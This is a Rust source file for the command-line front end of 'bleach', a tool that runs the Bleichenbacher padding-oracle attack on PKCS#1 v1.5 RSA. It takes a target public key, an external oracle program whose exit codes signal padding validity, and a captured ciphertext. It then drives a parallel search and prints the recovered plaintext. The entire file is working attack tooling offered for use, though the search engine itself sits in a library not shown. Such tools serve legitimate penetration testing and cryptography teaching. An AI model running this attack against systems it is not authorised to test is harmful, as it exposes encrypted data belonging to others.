//! Attack front-end: recover the plaintext of a captured PKCS#1 v1.5
//! ciphertext through an exec padding oracle.

use std::io::{self, BufRead};
use std::path::PathBuf;
use std::sync::Arc;

use anyhow::{bail, Context, Result};
use clap::Parser;

use bleach::oracle::{ExecCallback, ExecOracle, ExecResponse};
use bleach::utils::{bytes_to_hold, pow2_round, to_int_error};
use bleach::{keys, Bleichenbacher, SearchOutcome};

#[derive(Parser)]
#[command(
    name = "bleach",
    about = "Bleichenbacher '98 attack against a PKCS#1 v1.5 padding oracle"
)]
struct Args {
    /// PEM file containing the target public key
    #[arg(short = 'f', long)]
    pubkey: PathBuf,

    /// Padding oracle program, run once per candidate ciphertext
    #[arg(short, long)]
    oracle: PathBuf,

    /// Arguments for the oracle program; "{}" is replaced by the
    /// zero-padded hex ciphertext
    #[arg(short = 'a', long = "arg")]
    args: Vec<String>,

    /// Exit code the oracle returns for a non-conforming decryption;
    /// every other exit code counts as conforming
    #[arg(long, default_value_t = 2, conflicts_with = "accept_rc")]
    reject_rc: i32,

    /// Exit code the oracle returns for a conforming decryption; every
    /// other exit code counts as non-conforming
    #[arg(long)]
    accept_rc: Option<i32>,

    /// Number of parallel oracle workers; defaults to host parallelism
    #[arg(short = 'j', long)]
    pool_size: Option<usize>,

    /// The captured ciphertext, decimal or hex. Read from stdin if omitted
    ciphertext: Option<String>,
}

fn default_pool_size() -> usize {
    std::thread::available_parallelism()
        .map(|parallelism| parallelism.get())
        .unwrap_or(1)
}

fn main() -> Result<()> {
    let args = Args::parse();

    let key = keys::public_from_pem_file(&args.pubkey)?;
    let k_bits = pow2_round((bytes_to_hold(&key.n) * 8) as i64)
        .context("public key modulus is too small")?;

    let callback: Box<ExecCallback> = match args.accept_rc {
        Some(accept_rc) => {
            Box::new(move |response: &ExecResponse| response.status == Some(accept_rc))
        }
        None => {
            let reject_rc = args.reject_rc;
            Box::new(move |response: &ExecResponse| response.status != Some(reject_rc))
        }
    };
    let oracle = ExecOracle::new(
        &args.oracle,
        args.args.clone(),
        (k_bits / 4) as usize,
        callback,
    )?;

    let pool_size = args.pool_size.unwrap_or_else(default_pool_size);
    let engine = Bleichenbacher::new(&key.n, &key.e, Arc::new(oracle), pool_size)?;
    println!(
        "key width: {} bits, e = 0x{}, {} workers",
        k_bits,
        key.e.to_str_radix(16),
        pool_size
    );

    let input = match args.ciphertext {
        Some(ciphertext) => ciphertext,
        None => {
            let mut line = String::new();
            io::stdin()
                .lock()
                .read_line(&mut line)
                .context("can't read ciphertext from stdin")?;
            line
        }
    };
    let c = to_int_error(&input, "Ciphertext")?;

    match engine.run_search(&c)? {
        SearchOutcome::Recovered {
            lower_bound,
            plaintext,
        } => {
            println!("interval bound: {}", lower_bound);
            println!(
                "plaintext: {:0>width$}",
                plaintext.to_str_radix(16),
                width = (k_bits / 4) as usize
            );
            Ok(())
        }
        SearchOutcome::Stopped => bail!("search was cancelled"),
    }
}
